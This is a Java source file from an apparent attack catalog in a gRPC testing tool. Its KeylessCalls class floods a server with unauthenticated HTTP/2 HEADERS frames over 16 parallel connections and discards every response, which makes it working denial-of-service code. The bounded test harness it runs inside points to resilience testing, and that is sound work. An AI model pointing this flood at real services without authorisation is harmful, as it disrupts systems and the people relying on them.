package dev.sluice.attacks.catalog;

import dev.sluice.attacks.wire.Frame;
import dev.sluice.attacks.wire.Grpc;
import dev.sluice.attacks.wire.Http2;
import java.io.ByteArrayOutputStream;
import java.io.IOException;

/** Makes calls without a key as fast as the connection takes them, and reads no answer. */
final class KeylessCalls extends Attack {
  private static final int AT_ONCE = 200;
  private static final int CONNECTIONS_AT_ONCE = 16;

  private final String method;

  KeylessCalls(String name, String method) {
    super(name, Family.FRAMES, Access.NO_KEY, Bounds.of(2_000, 64, 4));
    this.method = method;
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    attempt.repeat(CONNECTIONS_AT_ONCE, () -> flood(attempt));
  }

  private void flood(Attempt attempt) throws IOException {
    byte[] headers = Grpc.headers(method, "");
    try (Http2 connection = attempt.grpc()) {
      while (attempt.isRunning()) {
        ByteArrayOutputStream calls = new ByteArrayOutputStream();
        for (int i = 0; i < AT_ONCE; i++) {
          int flags = Frame.END_HEADERS | Frame.END_STREAM;
          calls.writeBytes(
              new Frame(Frame.HEADERS, flags, connection.newStream(), headers).encode());
        }
        connection.send(calls.toByteArray());
      }
    }
  }
}
